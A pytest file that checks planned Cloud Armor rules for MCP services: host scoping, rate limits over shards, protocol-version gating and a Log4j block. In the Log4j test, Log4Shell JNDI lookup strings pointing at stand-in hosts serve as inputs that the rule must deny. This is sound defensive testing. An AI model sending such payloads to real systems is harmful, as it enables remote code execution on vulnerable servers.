"""What the edge means, on the rules as planned (issue 19 items 4, 5 and 9).

Each test sends sample requests through the planned Cloud Armor rules (:mod:`edge_eval`: rules
walked by priority, the first match decides, throttles counted per backend service) and asserts
which rule decides and what the client gets: host scoping that a changed ``Host`` cannot dodge,
one per-client limit per policy, limits that hold over a service's shards, per-tool limits and
method routes acting only on requests that claim MCP 2026-07-28, the Log4j rule.
"""

from __future__ import annotations

import copy
import datetime
import re

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import ROOT, plan_example, plan_stack
from mcp_affinity.cli.plan_file import validate
from mcp_affinity.policies import check_plan
from session_review import plan_example_as
from edge_eval import Edge, Request, deciding_rule, ordered
from mcp_affinity.affinity import MODERN_VERSIONS
from mcp_affinity.load_balancer import GlobalHttpsLoadBalancerArgs, MethodRouteArgs
from mcp_affinity.security_policy import (KNOWN_METHODS, LOG4J_EXPRESSION, MAX_METHOD_LIMITS, EdgeArgs, EdgePolicyArgs,
                                          EdgeScopeArgs, MethodLimitArgs, policy_rules)
from test_edge_inputs import paths
from test_hostile_config import NS, problems

POLICY = "gcp:compute/securityPolicy:SecurityPolicy"
MODERN, LEGACY = "2026-07-28", "2025-11-25"
ORIGIN = "Origin not allowed (MCP: 403 for invalid origins)"
GATE = "Mcp-Method without MCP-Protocol-Version 2026-07-28+"
OLD_VERSION = "MCP-Protocol-Version older than 2026-07-28"
CLIENT = "per-client limit"


def rules(scopes: dict, backend_services: int = 1) -> list[dict]:
    return policy_rules(EdgePolicyArgs(prefix="p", scopes=scopes, backend_services=backend_services))


def shared(**edges) -> list[dict]:
    """A policy shared by services ``notes`` (n.example.com) and ``api`` (a.example.com), as on the GKE gateway."""
    hosts = {"notes": ["n.example.com"], "api": ["a.example.com"]}
    return rules({name: EdgeScopeArgs(edge=edges.get(name, {}), hosts=hosts[name], scoped=True) for name in hosts})


def call(host: str, **headers) -> Request:
    return Request({"host": host, **{k.replace("_", "-"): v for k, v in headers.items()}})


# --- item 4: host scoping that cannot be dodged -------------------------------------------------------

@pytest.mark.parametrize("host", ["n.example.com", "N.EXAMPLE.COM", "n.Example.com:443", "n.example.com.",
                                  "N.example.COM.:443"])
def test_every_spelling_of_a_host_gets_its_origin_check(host):
    decided = deciding_rule(shared(), call(host, origin="https://evil.example.net"))
    assert decided["description"] == ORIGIN and decided["priority"] == 1100  # notes' block (sorted after api)
    assert deciding_rule(shared(), call(host, origin="https://n.example.com"))["description"] == CLIENT


def test_a_host_no_scope_knows_still_meets_the_per_client_limit():
    edge = Edge(shared(notes={"rate_limit": {"requests": 3}}))
    assert [edge.send(call(h))[0] for h in ("n.example.com", "NOTES.example.com", "x.example.org", "a.example.com")] == [
        "allow", "allow", "allow", "deny(429)"]


def test_one_per_client_limit_per_policy_the_strictest_of_the_services():
    planned = shared(notes={"rate_limit": {"requests": 100, "interval_seconds": 60}},
                     api={"rate_limit": {"requests": 30, "interval_seconds": 10}})
    clients = [r for r in planned if r["description"] == CLIENT]
    assert len(clients) == 1
    (client,) = clients
    assert "expr" not in client["match"] and client["priority"] == 1199  # after both blocks, before the default allow
    assert client["rate_limit_options"]["rate_limit_threshold"] == {"count": 100, "interval_sec": 60}  # 1.7/s < 3/s
    tie = shared(notes={"rate_limit": {"requests": 60, "interval_seconds": 60}},
                 api={"rate_limit": {"requests": 600, "interval_seconds": 600}})
    assert next(r for r in tie if r["description"] == CLIENT)["rate_limit_options"]["rate_limit_threshold"]["count"] == 60


def test_the_gke_example_scopes_on_lowercased_hosts_and_limits_every_host():
    policy = plan_example("gke-in-memory").get(POLICY, "gateway").inputs["rules"]
    assert deciding_rule(policy, call("LEGACY.dev.example.com", origin="https://evil.example.net"))["action"] == "deny(403)"
    assert deciding_rule(policy, call("unknown.example.org"))["description"] == CLIENT


def gke_stateless_with(**limits) -> dict:
    """The plan JSON of ``examples/Pulumi.gke-stateless.yaml`` (mesh services ``tools`` and ``render``
    on one gateway) with each named service's ``edge.rateLimit`` set to ``limits[name]``."""
    def edit(config: dict) -> None:
        for name, limit in limits.items():
            config[NS + "meshServices"][name]["edge"] = {"rateLimit": limit}
    return plan_example_as("gke-stateless", edit).to_json()


LOOSER = "meshServices.{0}.edge.rateLimit {1} is looser than the gateway's {2} (meshServices.{3}): clients of {0} get {2}"


@pytest.mark.parametrize("limits,gets,warned", [
    ({"tools": {"requests": 600}, "render": {"requests": 300}}, (300, 60), [("tools", "600/60s", "render")]),
    ({"render": {"requests": 300}}, (300, 60), [("tools", "600/60s (the default)", "render")]),
    # By requests per second: 30 per 10 s (3/s) is stricter than 600 per minute (10/s).
    ({"tools": {"requests": 30, "intervalSeconds": 10}}, (30, 10), [("render", "600/60s (the default)", "tools")]),
    ({"tools": {"requests": 300}, "render": {"requests": 300}}, (300, 60), []),
    ({}, (600, 60), []),
])
def test_a_mesh_service_whose_limit_the_gateway_does_not_keep_is_warned_about_once(limits, gets, warned):
    """The gateway's one per-client limit is the strictest of its mesh services' (documented): a plan
    diagnostic, once per service whose own limit is looser, never a refusal."""
    document = gke_stateless_with(**limits)
    shown = f"{gets[0]}/{gets[1]}s"
    messages = [d["message"] for d in document["diagnostics"] if "edge.rateLimit" in d["message"]]
    assert [m.split(";")[0] for m in messages] == [LOOSER.format(name, own, shown, holder) for name, own, holder in warned]
    assert all(d["severity"] == "warning" and d["urn"].endswith("MeshGatewayBackend::gateway")
               for d in document["diagnostics"] if d["message"] in messages)
    plan = validate(document)
    policy = next(r for r in plan["resources"] if r["type"] == POLICY)
    threshold = next(r for r in policy["inputs"]["rules"] if r.get("description") == CLIENT)
    assert threshold["rateLimitOptions"]["rateLimitThreshold"] == {"count": gets[0], "intervalSec": gets[1]}
    assert check_plan(plan) == []


# --- item 5: limits over shards ------------------------------------------------------------------------

def test_a_limit_over_six_shards_lets_one_client_through_at_most_the_limit_as_written():
    planned = rules({"tools": EdgeScopeArgs(edge={"rate_limit": {"requests": 60}}, hosts=["t.example.com"])},
                    backend_services=6)
    edge = Edge(planned)
    aimed = [edge.send(call("t.example.com"), backend="s0")[0] for _ in range(11)]
    assert aimed == ["allow"] * 10 + ["deny(429)"]
    edge = Edge(planned)
    spread = [edge.send(call("t.example.com"), backend=f"s{i % 6}")[0] for i in range(66)]
    assert spread.count("allow") == 60


def test_per_tool_limits_divide_too_and_a_threshold_that_rounds_to_zero_is_refused():
    edge = {"rate_limit": {"requests": 12}, "method_limits": {"render": {"method": "tools/call", "requests": 5}}}
    planned = rules({"tools": EdgeScopeArgs(edge=edge, hosts=["t.example.com"])}, backend_services=4)
    counts = {r["description"]: r["rate_limit_options"]["rate_limit_threshold"]["count"] for r in planned
              if r["action"] == "throttle"}
    assert counts == {"per-tool limit render": 1, CLIENT: 3}
    with pytest.raises(ValueError) as refused:
        rules({"tools": EdgeScopeArgs(edge=edge, hosts=["t.example.com"])}, backend_services=6)
    assert paths(refused.value) == ["scopes.tools.edge.methodlimits.render.requests"]
    assert "cannot hold over 6 backend services" in str(refused.value) and "at least 6" in str(refused.value)
    rules({"tools": EdgeScopeArgs(edge=edge, hosts=["t.example.com"])}, backend_services=5)  # 5 // 5 = 1: fine


def test_the_shards_example_divides_each_services_limits_by_its_shards():
    plan = plan_example("cloud-run-shards")
    counts = {p.name: next(r for r in p.inputs["rules"] if r["description"] == CLIENT)
              ["rateLimitOptions"]["rateLimitThreshold"]["count"] for p in plan.by_type(POLICY)}
    assert counts == {"tools": 100, "typescript": 300}  # 600 over 2 regions x 3 shards, and over 1 x 2


def test_a_stack_whose_limit_rounds_to_zero_over_its_shards_is_refused_under_the_key():
    config = copy.deepcopy(yaml.safe_load((ROOT / "examples" / "Pulumi.cloud-run-shards.yaml").read_text())["config"])
    config[NS + "services"]["tools"]["edge"] = {"rateLimit": {"requests": 5}}
    found = dict(problems(config))
    assert "cannot hold over 6 backend services" in found[NS + "services.tools.edge.rateLimit.requests"]
    config[NS + "services"]["tools"]["edge"] = {"rateLimit": {"requests": 6}}
    assert problems(config) == []


def test_method_limits_are_bounded_by_the_priorities_of_a_block():
    limits = {f"l{i}": {"method": "tools/call", "name": f"t{i}", "requests": 1} for i in range(MAX_METHOD_LIMITS + 1)}
    with pytest.raises(ValueError) as refused:
        EdgeArgs(method_limits=limits)
    assert paths(refused.value) == ["methodlimits"]
    assert f"{MAX_METHOD_LIMITS + 1} per-tool limits; at most {MAX_METHOD_LIMITS}" in str(refused.value)
    del limits["l0"]
    planned = shared(notes={"method_limits": limits}, api={"method_limits": limits})
    ordered(planned)  # unique priorities
    config = yaml.safe_load((ROOT / "stacks" / "Pulumi.staging.yaml").read_text())["config"]
    config[NS + "services"]["search"]["edge"]["methodLimits"] = {
        f"l{i}": {"method": "tools/call", "name": f"t{i}", "requests": 1} for i in range(50)}
    assert any(k == NS + "services.search.edge.methodLimits" and "50 per-tool limits" in m for k, m in problems(config))


@settings(max_examples=25, deadline=None)
@given(st.lists(st.tuples(st.integers(0, MAX_METHOD_LIMITS), st.integers(0, MAX_METHOD_LIMITS)), min_size=1, max_size=4),
       st.booleans(), st.booleans())
def test_every_mix_of_options_keeps_priorities_unique_and_inside_each_block(sizes, require, waf):
    def edge(n):
        return {"require_method_header": require, "waf": {"enabled": waf},
                "method_limits": {f"m{i}": {"method": "tools/call", "name": f"t{i}", "requests": 1} for i in range(n)}}

    scopes = {f"s{i}": EdgeScopeArgs(edge=edge(a), hosts=[f"h{i}.example.com"], scoped=True, routed_methods=["ping"] * b)
              for i, (a, b) in enumerate(sizes)}
    planned = ordered(rules(scopes))
    assert planned[-1]["priority"] == 2147483647 and planned[-2]["description"] == CLIENT
    for index, key in enumerate(sorted(scopes)):
        block = [r for r in planned if f"h{key[1:]}" in str(r["match"])]
        assert all(1000 + 100 * index <= r["priority"] < 1099 + 100 * index for r in block)


# --- item 5: only requests that claim 2026-07-28 are routed or limited on their headers ---------------

def limited() -> list[dict]:
    edge = {"rate_limit": {"requests": 100}, "method_limits": {
        "calls": {"method": "tools/call", "requests": 50},
        "render": {"method": "tools/call", "name": "render_video", "requests": 2}}}
    return rules({"tools": EdgeScopeArgs(edge=edge, hosts=["t.example.com"], routed_methods=["prompts/get"])})


@pytest.mark.parametrize("version", [None, LEGACY, "2026-07-27", "2026-7-28", "latest", "2026-07-28 "])
@pytest.mark.parametrize("method", ["tools/call", "prompts/get"])
def test_a_limited_or_routed_method_without_a_modern_version_is_refused(version, method):
    headers = {"mcp_method": method, "mcp_name": "render_video"}
    if version is not None:
        headers["mcp_protocol_version"] = version
    assert Edge(limited()).send(call("t.example.com", **headers)) == ("deny(403)", GATE)


@pytest.mark.parametrize("version", [MODERN, "2026-12-01", "2027-01-01", "2100-06-30", "9999-12-31"])
def test_a_modern_request_meets_its_per_tool_limit_the_name_before_the_method(version):
    edge = Edge(limited())
    render = call("t.example.com", mcp_method="tools/call", mcp_name="render_video", mcp_protocol_version=version)
    other = call("t.example.com", mcp_method="tools/call", mcp_name="search", mcp_protocol_version=version)
    assert [edge.send(render) for _ in range(3)] == [("allow", "per-tool limit render")] * 2 + [
        ("deny(429)", "per-tool limit render")]
    assert edge.send(other) == ("allow", "per-tool limit calls")


def test_legacy_requests_and_unlimited_methods_stay_under_the_per_client_limit():
    edge = Edge(limited())
    assert edge.send(call("t.example.com")) == ("allow", CLIENT)  # legacy: no Mcp-Method at all
    assert edge.send(call("t.example.com", mcp_method="tools/list", mcp_protocol_version=LEGACY)) == ("allow", CLIENT)
    assert edge.send(call("t.example.com", mcp_method="server/discover")) == ("allow", CLIENT)


def test_require_method_header_refuses_every_request_naming_an_older_or_no_version():
    planned = rules({"tools": EdgeScopeArgs(edge={"require_method_header": True}, hosts=["t.example.com"],
                                            oauth_metadata=True)})
    edge = Edge(planned)
    for request in (call("t.example.com", mcp_method="tools/list"),
                    call("t.example.com", mcp_method="tools/list", mcp_protocol_version=LEGACY),
                    Request({"host": "t.example.com", "mcp-protocol-version": LEGACY}, method="GET")):
        assert edge.send(request) == ("deny(403)", OLD_VERSION), request
    assert edge.send(call("t.example.com", mcp_protocol_version=MODERN))[0] == "deny(403)"  # POST without Mcp-Method
    assert edge.send(call("t.example.com", mcp_method="tools/list", mcp_protocol_version=MODERN)) == ("allow", CLIENT)
    assert edge.send(Request({"host": "t.example.com"}, method="OPTIONS")) == ("allow", CLIENT)  # CORS preflight
    assert edge.send(Request({"host": "t.example.com"}, method="GET", path="/.well-known/oauth-protected-resource")) == (
        "allow", CLIENT)


def test_without_limits_routes_or_the_requirement_no_version_is_asked():
    planned = rules({"tools": EdgeScopeArgs(hosts=["t.example.com"])})
    assert {r["description"] for r in planned}.isdisjoint({GATE, OLD_VERSION})


_DATES = st.dates(min_value=datetime.date(1990, 1, 1), max_value=datetime.date(9999, 12, 31))


@settings(max_examples=300, deadline=None)
@given(_DATES)
def test_the_version_pattern_is_exactly_2026_07_28_and_later(day):
    assert bool(re.fullmatch(MODERN_VERSIONS, day.isoformat())) == (day >= datetime.date(2026, 7, 28))


@settings(max_examples=40, deadline=None)
@given(_DATES)
def test_the_planned_gate_decides_by_the_same_date(day):
    request = call("t.example.com", mcp_method="tools/call", mcp_name="x", mcp_protocol_version=day.isoformat())
    refused = deciding_rule(limited(), request)["description"] == GATE
    assert refused == (day < datetime.date(2026, 7, 28))


def test_the_stacks_gate_the_methods_they_route_and_the_url_map_matches_only_modern_versions():
    plan = plan_example("cloud-run-stateless")
    tools = plan.get(POLICY, "tools").inputs["rules"]
    (gate,) = [r for r in tools if r["description"] == GATE]
    assert "^(?:tools/call)$" in gate["match"]["expr"]["expression"]
    request = call("mcp.dev.example.com", mcp_method="tools/call", mcp_name="render_video", mcp_protocol_version=LEGACY)
    assert deciding_rule(tools, request)["action"] == "deny(403)"
    modern = call("mcp.dev.example.com", mcp_method="tools/call", mcp_name="render_video", mcp_protocol_version=MODERN)
    assert deciding_rule(tools, modern)["action"] == "throttle"
    matcher = next(m for m in plan.get("gcp:compute/uRLMap:URLMap", "lb").inputs["pathMatchers"] if m["name"] == "tools")
    method_rules = [r for r in matcher["routeRules"] if any(h["headerName"] == "Mcp-Method"
                                                          for h in r["matchRules"][0]["headerMatches"])]
    assert method_rules and all({"headerName": "MCP-Protocol-Version", "regexMatch": MODERN_VERSIONS}
                                in r["matchRules"][0]["headerMatches"] for r in method_rules)


def test_server_discover_is_a_method_limits_and_routes_accept():
    assert "server/discover" in KNOWN_METHODS
    assert MethodLimitArgs(method="server/discover", requests=10).method == "server/discover"
    assert MethodRouteArgs(method="server/discover", service="b").method == "server/discover"
    with pytest.raises(ValueError, match="not an MCP request method"):
        MethodLimitArgs(method="server/discovery", requests=10)


# --- item 9: Log4j -------------------------------------------------------------------------------

def test_every_policy_of_every_stack_and_example_blocks_log4j_lookups_enforced():
    from test_edge import all_plans

    policies = [p.inputs for plan in all_plans() for p in plan.by_type(POLICY)]
    assert len(policies) > 5
    for policy in policies:
        (log4j,) = [r for r in policy["rules"] if r["priority"] == 910]
        # Checkov CKV_GCP_73 wants exactly this expression, not allow, not preview.
        assert log4j["match"] == {"expr": {"expression": "evaluatePreconfiguredExpr('cve-canary')"}}
        assert log4j["action"] == "deny(403)" and not log4j.get("preview")


def test_the_refuse_jndi_lookups_refuses_lookups_not_prose_and_may_be_turned_off():
    edge = Edge(limited())
    assert edge.send(Request({"host": "t.example.com", "user-agent": "${jndi:ldap://x.example/a}"}))[0] == "deny(403)"
    assert edge.send(Request({"host": "t.example.com"}, body='{"q": "${JNDI:rmi://x}"}'))[0] == "deny(403)"
    assert edge.send(Request({"host": "t.example.com"}, body='{"q": "explain JNDI lookups in log4j"}')) == ("allow", CLIENT)
    off = rules({"a": EdgeScopeArgs(edge={"refuse_jndi_lookups": False}, hosts=["a.example.com"])})
    assert LOG4J_EXPRESSION not in str(off)
    one_on = shared(notes={"refuse_jndi_lookups": False})
    assert [r["priority"] for r in one_on if r["match"].get("expr", {}).get("expression") == LOG4J_EXPRESSION] == [910]


def test_a_load_balancer_method_route_counts_the_version_match_in_its_quota():
    from mcp_affinity.load_balancer import _predicates

    assert _predicates(MethodRouteArgs(method="tools/call", service="b")) == 3
    assert _predicates(MethodRouteArgs(method="tools/call", name="x", service="b")) == 4
    GlobalHttpsLoadBalancerArgs(prefix="p", certificates={"m": ["a.example.com"]}, routes={
        "a": {"hosts": ["a.example.com"], "method_routes": {"d": {"method": "server/discover", "service": "b"}}},
        "b": {}})


def test_staging_plans_the_search_limits_with_the_gate():
    policy = plan_stack("staging").get(POLICY, "search").inputs["rules"]
    request = Request({"host": "mcp.staging.example.com", "mcp-method": "tools/call", "mcp-name": "deep_search"})
    assert deciding_rule(policy, request)["description"] == GATE


def test_the_gke_gateway_gates_the_methods_its_mesh_services_route():
    plan = plan_example("gke-stateless")
    policy = plan.get(POLICY, "gateway").inputs["rules"]
    legacy = call("mcp.dev.example.com", mcp_method="tools/call", mcp_name="render_video", mcp_protocol_version=LEGACY)
    assert deciding_rule(policy, legacy)["description"] == GATE
    modern = call("MCP.dev.example.com", mcp_method="tools/call", mcp_name="render_video", mcp_protocol_version=MODERN)
    assert deciding_rule(policy, modern)["description"] == CLIENT
    route = plan.get("kubernetes:networking.istio.io/v1:VirtualService", "tools-route").inputs["spec"]
    assert route["http"][0]["match"][0]["headers"]["mcp-protocol-version"] == {"regex": MODERN_VERSIONS}


def test_each_services_version_rules_stay_on_its_own_hosts():
    planned = shared(notes={"require_method_header": True, "method_limits": {"c": {"method": "tools/call", "requests": 5}}})
    edge = Edge(planned)
    legacy = {"mcp_method": "tools/call", "mcp_protocol_version": LEGACY}
    assert edge.send(call("N.example.com", **legacy))[0] == "deny(403)"
    assert edge.send(call("a.example.com", **legacy)) == ("allow", CLIENT)  # api asks for no version
    assert edge.send(call("a.example.com")) == ("allow", CLIENT)


def test_adaptive_protection_auto_deploy_needs_adaptive_protection_and_stands_alone():
    with pytest.raises(ValueError, match="needs adaptiveProtection"):
        EdgeArgs(adaptive_protection=False, adaptive_protection_auto_deploy=True)
    planned = shared(api={"adaptive_protection_auto_deploy": True})
    assert [(r["priority"], r["match"]["expr"]["expression"]) for r in planned if r["priority"] < 1000] == [
        (900, "evaluateAdaptiveProtectionAutoDeploy()"), (910, LOG4J_EXPRESSION)]
    assert all(r["priority"] != 900 for r in shared())


def test_the_waf_rule_sets_are_googles_crs_4_22_names():
    from mcp_affinity.security_policy import WAF_RULE_SETS

    assert WAF_RULE_SETS == ("sqli", "xss", "lfi", "rfi", "rce", "methodenforcement", "scannerdetection",
                             "protocolattack", "sessionfixation", "php", "java", "nodejs")


def test_the_policy_lands_in_the_services_project_with_its_labels(record):
    from test_edge import service

    policy = record(service("public")).get(POLICY, "tools").inputs
    assert policy["project"] == "my-proj" and policy["name"] == "mcp-t-tools-armor"
    assert policy["description"] == "mcp-affinity: Origin allowlist, rate limits, WAF"
